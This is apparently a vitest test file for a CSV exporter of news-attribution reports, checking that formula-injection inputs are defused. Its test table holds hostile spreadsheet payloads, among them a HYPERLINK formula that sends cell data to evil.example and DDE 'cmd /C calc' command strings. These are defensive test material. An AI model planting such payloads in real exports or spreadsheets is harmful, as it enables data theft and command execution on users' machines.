import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Report } from '../report/types';
import { CSV_COLUMNS, FORMULA_START, toCsv } from './csv';
import { buildReport, floodBarrierReport, HOSTILE_PAYLOADS, hostileReport } from './fixture.test-helper';

type Row = Record<(typeof CSV_COLUMNS)[number], string | number>;

function parse(csv: string): { fields: string[]; rows: Row[] } {
  const out = Papa.parse<Row>(csv, { header: true, dynamicTyping: { contentStart: true, contentEnd: true }, skipEmptyLines: true });
  expect(out.errors).toEqual([]);
  return { fields: out.meta.fields ?? [], rows: out.data };
}

/** What the CSV should hold for a text cell: the text, defused when it could start a formula. */
const cell = (s: string | null | undefined) => {
  const v = s ?? '';
  return FORMULA_START.test(v) ? `'${v}` : v;
};

function expectedRows(report: Report): Row[] {
  return report.attributions.map((a) => ({
    id: a.id,
    kind: a.kind,
    sourceType: a.sourceType,
    source: cell(a.source),
    resolved: cell(a.resolved),
    description: cell(a.description),
    via: cell(a.via),
    cue: cell(a.cue),
    content: cell(a.content),
    reason: cell(a.reason),
    contentStart: a.contentSpan.start,
    contentEnd: a.contentSpan.end,
    url: cell(report.article.url),
  }));
}

describe('toCsv', () => {
  it('starts with a byte order mark and the header row', () => {
    const csv = toCsv(floodBarrierReport());
    expect(csv.startsWith('\uFEFFid,kind,sourceType,source,resolved,description,via,cue,content,reason,contentStart,contentEnd,url\r\n')).toBe(true);
  });

  it('parses back to one row per attribution with every field', () => {
    const report = floodBarrierReport();
    const { fields, rows } = parse(toCsv(report));
    expect(fields).toEqual([...CSV_COLUMNS]);
    expect(rows).toEqual(expectedRows(report));
    expect(rows[8]).toMatchObject({ source: 'She', resolved: 'A city hall spokeswoman', sourceType: 'anonymous' });
    expect(typeof rows[0].contentStart).toBe('number');
  });

  it('keeps quotes, commas and newlines inside cells', () => {
    const report = floodBarrierReport();
    const { rows } = parse(toCsv(report));
    expect(rows[2].content).toBe('the barrier "remains the city\'s first priority."');
    const hostile = parse(toCsv(hostileReport())).rows;
    const multi = HOSTILE_PAYLOADS.indexOf('line one\nline two\r\nline three');
    expect(hostile[multi].content).toBe('line one\nline two\r\nline three');
  });

  it('round-trips every hostile payload, defusing formula starts and nothing else', () => {
    const report = hostileReport();
    const { rows } = parse(toCsv(report));
    expect(rows).toEqual(expectedRows(report));
    HOSTILE_PAYLOADS.forEach((p, i) => {
      expect(rows[i].content).toBe(FORMULA_START.test(p) ? `'${p}` : p);
    });
  });

  it.each([
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1\nsecond line of a formula cell',
    '＝HYPERLINK("https://evil.example")',
  ])('defuses %j wherever it appears', (payload) => {
    const report = buildReport({
      title: 'Formula test',
      url: payload,
      paragraphs: [`${payload} | said | ${payload}`],
      attributions: [
        { para: 0, content: payload, source: payload, cue: 'said', sourceType: 'vague', kind: 'direct', reason: payload },
      ],
    });
    const [row] = parse(toCsv(report)).rows;
    for (const col of ['source', 'content', 'reason', 'url'] as const) {
      expect(row[col]).toBe(`'${payload}`);
    }
    // No text cell a spreadsheet reads can start a formula.
    for (const v of Object.values(row)) {
      if (typeof v === 'string') expect(v).not.toMatch(FORMULA_START);
    }
  });

  it('leaves harmless text and numbers alone', () => {
    const { rows } = parse(toCsv(floodBarrierReport()));
    expect(rows.every((r) => !String(r.content).startsWith("'"))).toBe(true);
    expect(rows[0].contentStart).toBeGreaterThan(0);
  });

  it('writes only the header for an article with no attributions', () => {
    const empty = buildReport({ title: 'Empty', url: 'https://news.example.org/e', paragraphs: ['Nothing said.'], attributions: [] });
    expect(toCsv(empty)).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
    expect(toCsv(floodBarrierReport()).endsWith('url\r\n')).toBe(false);
    expect(toCsv(floodBarrierReport()).endsWith('\r\n')).toBe(true);
  });

  it('is deterministic', () => {
    expect(toCsv(hostileReport())).toBe(toCsv(hostileReport()));
  });
});
